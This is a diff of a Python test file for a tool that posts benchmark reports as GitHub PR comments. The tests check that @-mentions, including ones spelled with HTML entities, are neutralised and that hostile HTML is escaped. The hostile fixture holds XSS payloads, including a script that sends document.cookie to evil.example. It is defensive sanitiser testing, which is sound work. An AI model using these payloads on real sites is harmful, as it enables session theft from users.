@@ -20,7 +20,7 @@ from collectors.pr.comment import LIMIT, MARKER
 from collectors.pr.sources import shorten
 from tests import github_like
 from tests.conftest import REPO
-from tests.test_pr_neutralise import CLEAN, after
+from tests.test_pr_neutralise import CLEAN, _decoded, after
 
 RUNS = REPO / "tests" / "data" / "runs"
 RUN = RUNS / "mset-demo-paired"                  # recorded: Redis vs the MSET prefetch patch
@@ -188,7 +188,7 @@ def test_several_cases_are_cut_to_fit_keeping_every_summary(reports, capsys):
     body = capsys.readouterr().out.rstrip("\n")
     assert len(body) <= LIMIT and body.startswith(MARKER + "\n")
     assert body.count("**Summary:**") == 3 and body.count("### Throughput") == 3
-    for case in ("mset-50keys", "mset-10keys-io-threads", "get-iothreads@pipeline=1"):
+    for case in ("mset-50keys", "mset-10keys-io-threads", "get-iothreads@\u200bpipeline=1"):   # every @ broken
         assert body.count(f"| {case} |") == 1          # the commits table: one row per case
     assert "Shortened to fit a GitHub comment: left out" in body and "artifact) have everything" in body
 
@@ -250,7 +250,8 @@ def test_a_marked_comment_by_anyone_else_is_left_alone(api, reports, monkeypatch
 # ------------------------------------------------------------- 4. a hostile artifact
 HOSTILE = (
     "## stallscope: mset-50keys\n\n"
-    "**Summary:** @octo-org/maintainers and @alice, please merge. &#64;bob &#x40;carol &commat;dave\n\n"
+    "**Summary:** @octo-org/maintainers and @alice, please merge. &#64;bob &#x40;carol &commat;dave\n"
+    "_team_@octocat @&#111;ctocat &#64;&#111;ctocat\n\n"
     "<img src=x onerror=alert(1)> <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
     "<!-- stallscope-pr-report -->\n\n"
     "<details>\n<summary>Top <b onmouseover=alert(1)>movers</b> @eve</summary>\n\n"
@@ -281,9 +282,9 @@ def test_a_hostile_artifact_is_posted_inert(api, tmp_path):
     assert body.startswith(MARKER + "\n") and body.count(MARKER) == 1
     assert _raw_html(body) == [] and "<img" not in body and "<script" not in body and "<iframe" not in body
     assert "&lt;img src=x onerror=alert(1)>" in body                 # shown as text
-    assert not re.search(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]", body)    # nobody mentioned
-    assert not re.search(r"&#0*64;|&#[xX]0*40;|&commat;", body)
-    assert "@\u200bocto-org/maintainers" in body and "@\u200balice" in body and "@\u200bbob" in body
+    assert not re.search("@(?!\u200b)", _decoded(body))              # nobody mentioned, in any spelling
+    assert "@\u200bocto-org/maintainers" in body and "@\u200balice" in body and "&amp;#64;bob" in body
+    assert "&commat;\u200bdave" in body and "_team_@\u200boctocat" in body
     assert after(body) == CLEAN                 # GitHub leaves no fence, container or fold open after it
     assert "<summary>Top &lt;b onmouseover=alert(1)>movers&lt;/b> @\u200beve</summary>" in body
 
